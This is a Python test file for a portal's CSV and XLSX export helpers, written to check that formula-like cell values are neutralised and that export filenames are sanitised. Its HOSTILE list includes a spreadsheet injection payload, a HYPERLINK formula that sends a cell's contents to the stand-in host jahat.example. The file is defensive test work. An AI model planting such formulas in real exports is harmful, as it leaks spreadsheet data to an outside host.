"""CSV/XLSX exports never carry a live formula (portal/exports.py, and the HR reports' copy)."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from portal import exports
from workflow.reports import exports as report_exports

HOSTILE = [
    '=HYPERLINK("http://jahat.example/?x="&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("implementation", [exports.safe_cell, report_exports.safe_cell])
@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_prefixed(implementation, text):
    assert implementation(text) == "'" + text


@pytest.mark.parametrize("implementation", [exports.safe_cell, report_exports.safe_cell])
@pytest.mark.parametrize(
    "value", ["Budi Santoso", "198503302010011003", "a=b", "", "III/a", "'sudah"]
)
def test_ordinary_text_is_unchanged(implementation, value):
    assert implementation(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, Decimal("-1.25"), date(2026, 1, 2), 0])
def test_numbers_and_dates_stay_what_they_are(value):
    assert exports.safe_cell(value) == value
    assert exports.safe_cell(None) == ""
    assert exports.safe_cell(True) is True


def test_csv_response_escapes_every_cell_and_names_the_file_safely():
    response = exports.csv_response(
        'laporan"\r\n/../x.csv', ["NIP", "=Nama"], [["198503302010011003", HOSTILE[0]], [1, None]]
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["NIP", "'=Nama"]
    assert rows[1] == ["198503302010011003", "'" + HOSTILE[0]]
    assert rows[2] == ["1", ""]


def test_xlsx_response_has_no_formula_cells():
    response = exports.xlsx_response(
        "laporan.xlsx", ["Nama", "Nilai"], [[text, -1] for text in HOSTILE], sheet_title="Data"
    )
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [(row[0].value, row[0].data_type, row[1].value) for row in sheet.iter_rows(min_row=2)]
    # (Some openpyxl versions turn a carriage return into a line feed, others keep it.)
    assert [v[0].replace("\r", "\n") for v in values] == [
        "'" + text.replace("\r", "\n") for text in HOSTILE
    ]
    assert all(data_type == "s" for _, data_type, _ in values)
    assert all(number == -1 for _, _, number in values)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
